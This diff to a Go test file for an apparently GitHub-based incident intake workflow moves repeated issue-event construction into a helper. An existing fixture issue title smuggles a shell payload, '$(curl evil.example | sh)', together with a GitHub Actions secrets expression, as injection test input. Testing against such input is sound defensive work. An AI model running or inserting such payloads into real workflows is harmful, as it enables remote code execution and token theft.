@@ -250,13 +250,7 @@ func TestIntakeDeclaresFromTheIssueForm(t *testing.T) {
 	title := "Checkout `$(curl evil.example | sh)` ${{ secrets.GITHUB_TOKEN }} errors\nset-output"
 	body := "### Severity\n\nSEV1\n\n### What is happening\n\nPayments fail for <b>EU</b> customers @everyone\n\n### Who noticed\n\n_No response_\n"
 	n := w.fake.AddIssue(ghfake.Issue{Title: title, Body: body, Labels: []string{"incident"}, Author: "bob-gh"})
-	p := ghfake.Event(t, "issues", "opened")
-	is := p["issue"].(map[string]any)
-	is["number"], is["title"], is["body"], is["html_url"] = n, title, body, issueURL(n)
-	is["user"] = map[string]any{"login": "bob-gh", "type": "User", "id": 2}
-	is["author_association"] = "MEMBER"
-	is["labels"] = []any{map[string]any{"name": "incident"}}
-	delete(is, "pull_request")
+	p := intakeEvent(t, "opened", n, title, body, "bob-gh", "MEMBER")
 	before := w.remoteHead()
 
 	out, e, code := w.run("issues", p, "github", "intake")
@@ -286,6 +280,19 @@ func TestIntakeDeclaresFromTheIssueForm(t *testing.T) {
 	}
 }
 
+// intakeEvent is an issues event for issue n, opened or labelled
+// "incident" by author, whom GitHub names with association.
+func intakeEvent(t *testing.T, action string, n int, title, body, author, association string) map[string]any {
+	p := ghfake.Event(t, "issues", action)
+	is := p["issue"].(map[string]any)
+	is["number"], is["title"], is["body"], is["html_url"] = n, title, body, issueURL(n)
+	is["user"] = map[string]any{"login": author, "type": "User", "id": 2}
+	is["author_association"] = association
+	is["labels"] = []any{map[string]any{"name": "incident"}}
+	delete(is, "pull_request")
+	return p
+}
+
 // TestIntakeRefusesOutsiders: an issue opened and labelled by someone who
 // is neither a member nor a collaborator, without write permission,
 // declares nothing and pushes nothing; a member with write permission who
@@ -297,13 +304,7 @@ func TestIntakeRefusesOutsiders(t *testing.T) {
 	body := "### Severity\n\nSEV1\n\n### What is happening\n\nplease page everyone\n"
 	n := w.fake.AddIssue(ghfake.Issue{Title: title, Body: body, Labels: []string{"incident"}, Author: "mallory"})
 	event := func(sender string) map[string]any {
-		p := ghfake.Event(t, "issues", "labeled")
-		is := p["issue"].(map[string]any)
-		is["number"], is["title"], is["body"], is["html_url"] = n, title, body, issueURL(n)
-		is["user"] = map[string]any{"login": "mallory", "type": "User", "id": 66}
-		is["author_association"] = "NONE"
-		is["labels"] = []any{map[string]any{"name": "incident"}}
-		delete(is, "pull_request")
+		p := intakeEvent(t, "labeled", n, title, body, "mallory", "NONE")
 		p["label"] = map[string]any{"name": "incident"}
 		p["sender"] = map[string]any{"login": sender, "type": "User", "id": 67}
 		repo := p["repository"].(map[string]any)
